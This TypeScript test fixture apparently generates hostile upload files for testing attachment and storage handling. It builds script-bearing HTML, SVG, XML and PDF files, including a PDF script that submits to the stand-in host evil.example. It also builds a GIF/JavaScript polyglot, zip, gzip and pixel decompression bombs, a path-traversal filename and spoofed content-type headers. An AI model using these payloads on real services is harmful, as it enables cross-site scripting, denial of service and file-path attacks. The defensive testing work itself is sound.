import { deflateSync, gzipSync } from 'node:zlib';
import { chunk, pngFile, type TestFile } from './files.ts';

/** What each script among them would do: leave a mark, stop the page, and leave it. */
const attack = 'window.hacked=true;alert("hacked");location="https://evil.example/"';

/** Files that mean harm, as somebody may send them to a person who attaches them. */
export const hostileFiles = (): readonly TestFile[] => [
  { name: 'page.html', buffer: Buffer.from(`<!doctype html><title>x</title><script>${attack}</script>`) },
  {
    name: 'drawing.svg',
    buffer: Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg" onload='${attack}'><script>${attack}</script><image href="https://evil.example/" onerror='${attack}'/></svg>`,
    ),
  },
  {
    name: 'data.xml',
    buffer: Buffer.from(
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/a.xsl"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${attack}</script></html>`,
    ),
  },
  { name: 'polyglot.gif', buffer: pictureAndScript() },
  { name: 'photo.html.png', buffer: Buffer.from(`<html><body onload='${attack}'><img src=x onerror='${attack}'>`) },
  { name: 'plan.pdf', buffer: pdfWithScript() },
  { name: 'bomb.png', buffer: zipOfZeros(20_000_000) },
  { name: 'huge.png', buffer: onePixelDeep(10_000) },
  { name: '../../"evil" \'name\'.png', buffer: pngFile('name').buffer },
];

/** Objects that somebody else put into the bucket, with what a browser would believe of them. */
export const hostileObjects = (): readonly (TestFile & { readonly headers: Readonly<Record<string, string>> })[] => {
  const cached = { 'cache-control': 'public, max-age=31536000' };
  const [page] = hostileFiles();
  return [
    { name: 'page.png', buffer: page?.buffer ?? Buffer.of(), headers: { ...cached, 'content-type': 'image/png' } },
    {
      ...pngFile('picture.png'),
      headers: { ...cached, 'content-type': 'text/html', 'content-disposition': 'inline; filename="../../run.html"' },
    },
    {
      name: 'packed.png',
      buffer: gzipSync(Buffer.alloc(80_000_000)),
      headers: { ...cached, 'content-type': 'image/png', 'content-encoding': 'gzip' },
    },
  ];
};

/** A picture of 10,799 by 10 pixels, which is what a script's comment begins with, and a script in the picture's own comment. */
function pictureAndScript(): Buffer {
  const script = Buffer.from(`*/=1;${attack}//`);
  return Buffer.concat([
    Buffer.from('GIF89a/*\x0a\x00\x00\x00\x00\x21\xfe', 'latin1'),
    Buffer.of(script.length),
    script,
    Buffer.of(0, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0x80, 0, 0, 0, 255, 255, 255, 2, 2, 0x44, 1, 0, 0x3b),
  ]);
}

/** A picture of 100 megapixels for a side of 10,000, in some kilobytes. */
function onePixelDeep(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const pixels = deflateSync(Buffer.alloc(side * (1 + Math.ceil(side / 8))));
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
}

function zipOfZeros(bytes: number): Buffer {
  const packed = deflateSync(Buffer.alloc(bytes)).subarray(2, -4);
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(packed.length, 18);
  head.writeUInt32LE(bytes, 22);
  head.writeUInt16LE(1, 26);
  return Buffer.concat([head, Buffer.from('0'), packed]);
}

/** It opens with a script, and leads to an address by itself. */
function pdfWithScript(): Buffer {
  const script = '(app.alert\\("hacked"\\); this.submitForm\\("https://evil.example/"\\);)';
  return Buffer.from(`%PDF-1.7
1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS${script}>>/AA<</WC<</S/URI/URI(https://evil.example/)>>>>>> endobj
2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O<</S/JavaScript/JS${script}>>>>
/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(javascript:hacked=1)>>>>]>> endobj
trailer <</Root 1 0 R/Size 4>>
%%EOF`);
}
